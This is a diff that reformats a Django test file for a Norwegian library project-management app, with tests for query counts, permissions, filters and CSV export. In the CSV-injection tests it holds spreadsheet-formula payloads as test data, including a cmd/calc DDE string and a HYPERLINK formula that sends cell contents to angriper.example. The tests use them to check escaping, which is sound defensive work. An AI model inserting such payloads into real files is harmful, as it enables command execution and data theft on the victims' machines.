@@ -25,8 +25,15 @@ def _queries(client, url) -> int:
 
 def _projects(county, staff, theme, n, start=0):
     return [
-        services.create_project(county=county, by=staff, title=f"Prosjekt {i}", theme=theme, purpose="p",
-                                start_on=date(2026, 1, 1), end_on=date(2026, 12, 31))
+        services.create_project(
+            county=county,
+            by=staff,
+            title=f"Prosjekt {i}",
+            theme=theme,
+            purpose="p",
+            start_on=date(2026, 1, 1),
+            end_on=date(2026, 12, 31),
+        )
         for i in range(start, start + n)
     ]
 
@@ -56,42 +63,87 @@ def test_project_page_query_count_is_flat(client, county, county_staff, project,
         services.save_indicator(project=project, goal=goal, by=county_staff, name="Besøk", baseline=1, target=2)
     services.save_requirement(project=project, by=county_staff, text="Krav")
     municipalities = [MunicipalityFactory(county=county, number=f"55{i + 10}") for i in range(50)]
-    planning_services.set_required_positions(project=project, positions=planning_services.default_positions(project.theme), by=county_staff)
+    planning_services.set_required_positions(
+        project=project, positions=planning_services.default_positions(project.theme), by=county_staff
+    )
     first = services.invite_participants(project=project, municipalities=municipalities[:5], by=county_staff)
-    planning_services.save_budget(participant=first[0], by=county_staff, county_grant=100, required_local_share=40,
-                         local_cash=80, local_inkind_hours=0, hourly_rate=500)
+    planning_services.save_budget(
+        participant=first[0],
+        by=county_staff,
+        county_grant=100,
+        required_local_share=40,
+        local_cash=80,
+        local_inkind_hours=0,
+        hourly_rate=500,
+    )
     small = _queries(client, project.get_absolute_url())
     rest = services.invite_participants(project=project, municipalities=municipalities[5:], by=county_staff)
     for participant in rest[:20]:
         services.change_participant_status(participant=participant, to="committed", by=county_staff)
-        planning_services.save_budget(participant=participant, by=county_staff, county_grant=100, required_local_share=40,
-                             local_cash=80, local_inkind_hours=0, hourly_rate=500)
+        planning_services.save_budget(
+            participant=participant,
+            by=county_staff,
+            county_grant=100,
+            required_local_share=40,
+            local_cash=80,
+            local_inkind_hours=0,
+            hourly_rate=500,
+        )
         planning_services.release_grant(participant=participant, amount=50, by=county_staff)
         ContactFactory(municipality=participant.municipality, position=position(county, "mayor"))
-    planning_services.set_capacity_needs(project=project, by=county_staff, county_hours_per_month=10, participant_hours_per_month=2)
+    planning_services.set_capacity_needs(
+        project=project, by=county_staff, county_hours_per_month=10, participant_hours_per_month=2
+    )
     for i in range(3):
         goal = services.save_goal(project=project, by=county_staff, text=f"Flere mål {i}")
-        indicator = services.save_indicator(project=project, goal=goal, by=county_staff, name="Utlån", baseline=1, target=2)
+        indicator = services.save_indicator(
+            project=project, goal=goal, by=county_staff, name="Utlån", baseline=1, target=2
+        )
         services.record_measurement(indicator=indicator, by=county_staff, value=3, measured_on=date(2026, 2, 1))
     assert _queries(client, project.get_absolute_url()) == small
 
 
 def test_csv_export_has_norwegian_format_and_escapes_formulas(client, county, county_staff, theme):
     client.force_login(county_staff)
-    services.create_project(county=county, by=county_staff, title="=HYPERLINK(\"http://x\")", theme=theme, purpose="p",
-                            start_on=date(2026, 1, 1), end_on=date(2026, 12, 31))
-    services.create_project(county=county, by=county_staff, title="Leselyst i Gáivuotna", theme=theme, purpose="p",
-                            start_on=date(2026, 1, 1), end_on=date(2026, 1, 4))
+    services.create_project(
+        county=county,
+        by=county_staff,
+        title='=HYPERLINK("http://x")',
+        theme=theme,
+        purpose="p",
+        start_on=date(2026, 1, 1),
+        end_on=date(2026, 12, 31),
+    )
+    services.create_project(
+        county=county,
+        by=county_staff,
+        title="Leselyst i Gáivuotna",
+        theme=theme,
+        purpose="p",
+        start_on=date(2026, 1, 1),
+        end_on=date(2026, 1, 4),
+    )
     rows = _export(client, sort="title")
-    assert rows[0] == ["Tittel", "Status", "Tema", "Fylke", "Start", "Slutt", "Prosjektledere", "Deltakere",
-                       "Andel av perioden som har gått (%)"]
+    assert rows[0] == [
+        "Tittel",
+        "Status",
+        "Tema",
+        "Fylke",
+        "Start",
+        "Slutt",
+        "Prosjektledere",
+        "Deltakere",
+        "Andel av perioden som har gått (%)",
+    ]
     titles = [row[0] for row in rows[1:]]
-    assert "'=HYPERLINK(\"http://x\")" in titles and "Leselyst i Gáivuotna" in titles
+    assert '\'=HYPERLINK("http://x")' in titles and "Leselyst i Gáivuotna" in titles
     gaivuotna = next(row for row in rows if row[0] == "Leselyst i Gáivuotna")
     assert gaivuotna[4] == "01.01.2026" and gaivuotna[8] == "100,0"
 
 
-def test_library_heads_export_contains_only_their_projects(client, county, county_staff, theme, municipality, library_head):
+def test_library_heads_export_contains_only_their_projects(
+    client, county, county_staff, theme, municipality, library_head
+):
     mine, other = _projects(county, county_staff, theme, 2)
     services.invite_participants(project=mine, municipalities=[municipality], by=county_staff)
     client.force_login(library_head)
@@ -103,7 +155,10 @@ def test_project_list_filters(client, county, county_staff, theme, municipality)
     first, second = _projects(county, county_staff, theme, 2)
     make_active(second)
     services.invite_participants(project=first, municipalities=[municipality], by=county_staff)
-    listed = lambda **params: [p.title for p in client.get(reverse("projects:project-list"), params).context["page_obj"]]  # noqa: E731
+
+    def listed(**params):
+        return [p.title for p in client.get(reverse("projects:project-list"), params).context["page_obj"]]
+
     assert listed(status="active") == [second.title]
     assert listed(municipality=municipality.pk) == [first.title]
     assert listed(q="Prosjekt 1") == [second.title]
@@ -112,10 +167,17 @@ def test_project_list_filters(client, county, county_staff, theme, municipality)
 
 def test_create_project_form_shows_period_error_on_the_field(client, county_staff, theme):
     client.force_login(county_staff)
-    response = client.post(reverse("projects:project-create"), {
-        "title": "Nytt", "theme": theme.pk, "leaders": [county_staff.pk], "purpose": "p",
-        "start_on": "2026-05-01", "end_on": "2026-04-01",
-    })
+    response = client.post(
+        reverse("projects:project-create"),
+        {
+            "title": "Nytt",
+            "theme": theme.pk,
+            "leaders": [county_staff.pk],
+            "purpose": "p",
+            "start_on": "2026-05-01",
+            "end_on": "2026-04-01",
+        },
+    )
     assert response.status_code == 200
     assert response.context["form"].errors["end_on"] == ["Prosjektet må slutte etter at det starter."]
     assert not Project.objects.exists()
@@ -164,7 +226,9 @@ def test_municipality_list_filters_on_taking_part(client, project, county_staff,
 
 
 @pytest.mark.parametrize("section", ["oppfolging", "evaluering", "avtaler"])
-def test_project_page_parts_are_readable_by_every_reader(client, project, county_staff, municipality, library_head, section):
+def test_project_page_parts_are_readable_by_every_reader(
+    client, project, county_staff, municipality, library_head, section
+):
     services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
     url = reverse("projects:project-section", kwargs={"pk": project.pk, "section": section})
     client.force_login(library_head)
@@ -176,7 +240,9 @@ def test_project_page_parts_are_readable_by_every_reader(client, project, county
 
 def test_plan_part_is_for_county_staff_and_shows_the_checks(client, project, county_staff, municipality, library_head):
     services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
-    planning_services.set_required_positions(project=project, positions=planning_services.default_positions(project.theme), by=county_staff)
+    planning_services.set_required_positions(
+        project=project, positions=planning_services.default_positions(project.theme), by=county_staff
+    )
     url = reverse("projects:project-section", kwargs={"pk": project.pk, "section": "plan"})
     client.force_login(county_staff)
     html = client.get(url, HTTP_HX_REQUEST="true").content.decode()
@@ -189,7 +255,10 @@ def test_plan_part_is_for_county_staff_and_shows_the_checks(client, project, cou
 
 def test_unknown_project_part_is_404(client, project, county_staff):
     client.force_login(county_staff)
-    assert client.get(reverse("projects:project-section", kwargs={"pk": project.pk, "section": "ukjent"})).status_code == 404
+    assert (
+        client.get(reverse("projects:project-section", kwargs={"pk": project.pk, "section": "ukjent"})).status_code
+        == 404
+    )
 
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -207,12 +276,26 @@ def test_csv_export_escapes_a_formula_in_every_text_column(client, county, count
     User.objects.filter(pk=county_staff.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
     second = UserFactory(name="-2+3")
     Municipality.objects.filter(pk=municipality.pk).update(name="\t=1+1")
-    project = services.create_project(county=county, by=county_staff, title="\r=1+1", theme=theme, purpose="p",
-                                      start_on=date(2026, 1, 1), end_on=date(2026, 12, 31))
+    project = services.create_project(
+        county=county,
+        by=county_staff,
+        title="\r=1+1",
+        theme=theme,
+        purpose="p",
+        start_on=date(2026, 1, 1),
+        end_on=date(2026, 12, 31),
+    )
     project.leaders.add(second)
     services.invite_participants(project=project, municipalities=[municipality], by=county_staff)
-    services.create_project(county=county, by=county_staff, title="-Minus først; og «sitat» \"i\" tittelen", theme=theme,
-                            purpose="p", start_on=date(2026, 1, 1), end_on=date(2026, 1, 4))
+    services.create_project(
+        county=county,
+        by=county_staff,
+        title='-Minus først; og «sitat» "i" tittelen',
+        theme=theme,
+        purpose="p",
+        start_on=date(2026, 1, 1),
+        end_on=date(2026, 1, 4),
+    )
     client.force_login(county_staff)
     rows = _export(client, sort="title")
     assert len(rows) == 3
@@ -222,8 +305,8 @@ def test_csv_export_escapes_a_formula_in_every_text_column(client, county, count
     by_title = {row[0]: row for row in rows[1:]}
     hostile = by_title["'\r=1+1"]
     assert hostile[2] == "'+cmd|' /C calc'!A0"
-    assert hostile[3] == "'=HYPERLINK(\"http://angriper.example/?\"&A1;\"Klikk\")"
+    assert hostile[3] == '\'=HYPERLINK("http://angriper.example/?"&A1;"Klikk")'
     assert hostile[6] in ("'@SUM(1+1)*cmd|' /C calc'!A0, -2+3", "'-2+3, @SUM(1+1)*cmd|' /C calc'!A0")
     assert hostile[7] == "1" and hostile[4] == "01.01.2026"
-    quoted = by_title["'-Minus først; og «sitat» \"i\" tittelen"]  # semicolon and quotes survive the round trip
+    quoted = by_title['\'-Minus først; og «sitat» "i" tittelen']  # semicolon and quotes survive the round trip
     assert quoted[8] == "100,0"
